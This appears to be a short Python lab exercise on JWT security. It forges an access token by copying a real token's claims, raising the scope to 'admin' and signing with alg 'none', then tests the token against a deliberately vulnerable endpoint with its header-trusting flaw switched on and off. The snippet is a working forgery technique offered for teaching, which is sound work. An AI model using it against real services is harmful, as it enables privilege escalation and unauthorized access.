# A genuine token's claims, the scope raised to admin, and no signature at all: alg "none".
import json
import warnings

from joserfc.errors import SecurityWarning

claims = {**claims_of(lab.provider.mint(["api:read"])), "scope": "admin"}
with warnings.catch_warnings():
    warnings.simplefilter("ignore", SecurityWarning)  # joserfc warns: "none" is deprecated (it is only allowed here)
    forged = jws.serialize_compact({"alg": "none", "typ": "at+jwt"}, json.dumps(claims), None, algorithms=["none"])
print("alg_from_header on: ", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
vulnerable.disable("alg_from_header")
print("alg_from_header off:", vulnerable.execute("admin_status", token=forged).status_code, "|", vulnerable.last_reasons()[0])
challenge.check()
